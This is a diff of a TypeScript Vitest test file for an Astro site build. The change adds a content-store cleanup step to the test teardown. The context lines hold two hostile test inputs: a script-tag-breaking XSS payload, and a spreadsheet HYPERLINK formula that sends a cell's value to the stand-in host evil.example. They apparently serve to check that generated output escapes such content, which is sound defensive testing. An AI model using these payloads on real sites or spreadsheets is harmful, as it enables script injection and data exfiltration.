@@ -9,7 +9,7 @@ import { join } from 'node:path';
 import { unzipSync } from 'fflate';
 import { parse } from 'node-html-parser';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { astroEnv, distDir, htmlFiles, root, runAstro } from '../support/site';
+import { astroEnv, distDir, htmlFiles, removeContentStore, root, runAstro } from '../support/site';
 
 const attack = "</script><script>alert('J1')</script>";
 const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
@@ -42,7 +42,9 @@ beforeAll(async () => {
 });
 
 afterAll(() => {
-  if (dir) rmSync(dir, { recursive: true, force: true });
+  if (!dir) return;
+  removeContentStore(join(dir, 'content'));
+  rmSync(dir, { recursive: true, force: true });
 });
 
 describe('content that carries script', () => {
